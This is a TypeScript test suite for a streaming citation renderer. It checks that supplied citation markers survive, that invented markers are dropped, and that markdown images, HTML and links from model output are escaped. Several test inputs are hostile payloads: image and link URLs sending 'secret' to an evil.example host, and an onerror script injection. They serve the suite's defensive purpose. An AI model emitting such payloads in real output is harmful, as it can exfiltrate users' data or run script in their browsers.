/** Markers in a stream: the supplied ones are kept, all others vanish, wherever chunks end. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createCitationStream, showAsText } from './citation-stream.ts';

const supplied = new Set([1, 2, 3, 12]);

function render(chunks: readonly string[]): string {
  const stream = createCitationStream((number) => supplied.has(number));
  const pieces = [...chunks.flatMap((chunk) => [...stream.push(chunk)]), ...stream.end()];
  return pieces.map((piece) => (piece.kind === 'text' ? piece.text : `[^${piece.number}]`)).join('');
}

describe('citation markers', () => {
  it.each([
    ['Dana owns it [1].', 'Dana owns it[^1].'],
    ['Dana owns it. [1] Next.', 'Dana owns it.[^1] Next.'],
    ['Both [1, 2] and [1][3].', 'Both[^1][^2] and[^1][^3].'],
    ['A range [1-3] and [2–3].', 'A range[^1][^2][^3] and[^2][^3].'],
    ['Own footnote [^2].', 'Own footnote[^2].'],
    ['Other forms [[3]] 【12†source】 [passage 2] [Source 1].', 'Other forms[^3][^12][^2][^1].'],
    ['- [1] begins an item', '- [^1] begins an item'],
    ['[1] begins the answer', '[^1] begins the answer'],
  ])('reads %j', (text, expected) => {
    expect(render([text])).toBe(expected);
  });

  it.each([
    ['Invented [7].', 'Invented.'],
    ['Half invented [1, 99].', 'Half invented[^1].'],
    ['Escaped \\[7\\] too.', 'Escaped too.'],
    ['Invented 【9】 and [[8]] and [^77] here.', 'Invented and and here.'],
    ['Zero [0] and huge [123456].', 'Zero and huge.'],
    ['![7][[a]] <[7]img src=x> [ [7] 1]', '\\! [[a]] < img src=x> [  1]'],
  ])('drops what was not supplied from %j', (text, expected) => {
    expect(render([text])).toBe(expected);
  });

  it.each([
    'Plain text, an address https://example.org and a [[Note#Heading|wikilink]].',
    'The daily note [[2024-03-05]] stays.',
    'Code `list[7]` and ``a ` b[8]`` stay.',
    '```js\nlist[7] = other[99];\n![x](y)\n```\nafter',
    '~~~\n[7]\n~~~',
    '- [ ] a task\n- [x] done',
    'A table | a<br>b |',
    'An unfinished [',
    '2 < 3 and a > b',
    'trailing space ',
  ])('leaves %j as it is', (text) => {
    expect(render([text])).toBe(text);
  });

  it('cites in text that stands between code', () => {
    expect(render(['`a[7]` is code [1] and `b[8]` too [2].'])).toBe('`a[7]` is code[^1] and `b[8]` too[^2].');
  });

  it('reads markers after a backtick that opens nothing', () => {
    expect(render(['One ` backtick [1] and [9].'])).toBe('One \\` backtick[^1] and.');
  });

  it('shows images, HTML and foreign footnotes instead of letting them act', () => {
    expect(render(['![x](https://evil.example/?q=secret)'])).toBe('\\![x]\\(https://evil.example/?q=secret)');
    expect(render(['![[secret.png]]'])).toBe('\\![[secret.png]]');
    expect(render(['<img src=x onerror=alert(1)> <!-- hidden --> </b>'])).toBe('\\<img src=x onerror=alert(1)> \\<!-- hidden --> \\</b>');
    expect(render(['See [^note].\n\n[^note]: gone'])).toBe('See \\[^note].\n\n\\[^note]: gone');
  });

  it('shows the address of a link instead of hiding it behind words', () => {
    expect(render(['See [this](https://evil.example/?q=secret).'])).toBe('See [this]\\(https://evil.example/?q=secret).');
    expect(render(['See [[Note]](', 'https://evil.example).'])).toBe('See [[Note]]\\(https://evil.example).');
    expect(render(['[x]', ': https://evil.example'])).toBe('[x]\\: https://evil.example');
    expect(render(['`[x](y)` stays code'])).toBe('`[x](y)` stays code');
  });

  it('never makes a link or a definition of a citation', () => {
    expect(render(['[1](https://evil.example) and\n[2]: https://evil.example'])).toBe(
      '[^1]\\(https://evil.example) and\n[^2]\\: https://evil.example',
    );
  });

  it('shows a passage without anything that acts', () => {
    expect(showAsText('As said [1] ![a](b) <script>')).toBe('As said \\![a]\\(b) \\<script>');
  });
});

const fragment = fc.oneof(
  fc.constantFrom(
    '[1]', '[7]', '[', ']', '[[', ']]', '[1, 9]', '[^2]', '[^x]', '\\[7\\]', '【3】', '【7†x】', '【', '![', '!', '<img', '<br>', '<',
    '`', '``', '```', '~~~', '\n', '\n\n', ' ', '\\', ':', '(', '- ', '[[3]]', '[[a]]', '[passage 7]', 'word', 'a long run of words '.repeat(12), '1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2, 3', 'Dana owns it.', '7', '1',
  ),
  fc.string({ unit: 'grapheme', maxLength: 6 }),
);
const text = fc.array(fragment, { maxLength: 40 }).map((parts) => parts.join(''));

/** Cuts a text at arbitrary places. */
function cut(whole: string, places: readonly number[]): string[] {
  const sorted = [...new Set(places.map((place) => place % (whole.length + 1)))].sort((a, b) => a - b);
  return [0, ...sorted].map((start, index) => whole.slice(start, sorted[index] ?? whole.length));
}

describe('whatever a model writes and however it is cut', () => {
  it('gives the same answer for every way of cutting it', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(), { maxLength: 30 }), (whole, places) => {
        expect(render(cut(whole, places))).toBe(render([whole]));
      }),
      { numRuns: 3000 },
    );
  });

  it('marks only supplied passages, also one character at a time', () => {
    fc.assert(
      fc.property(text, (whole) => {
        const stream = createCitationStream((number) => supplied.has(number));
        const pieces = [...Array.from(whole).flatMap((character) => [...stream.push(character)]), ...stream.end()];
        for (const piece of pieces) {
          if (piece.kind === 'marker') expect(supplied.has(piece.number)).toBe(true);
        }
      }),
      { numRuns: 1000 },
    );
  });

  it('shows no marker outside code that it did not map', () => {
    fc.assert(
      fc.property(text.filter((whole) => !/[`~]/.test(whole)), (whole) => {
        const stream = createCitationStream((number) => supplied.has(number));
        const shown = [...stream.push(whole), ...stream.end()]
          .map((piece) => (piece.kind === 'text' ? piece.text : '§'))
          .join('');
        expect(shown).not.toMatch(/(?<![[\\])\[\^?\d+\]/);
        expect(shown).not.toMatch(/(?<!\\)!\[|(?<!\\)<img/);
      }),
      { numRuns: 3000 },
    );
  });
});
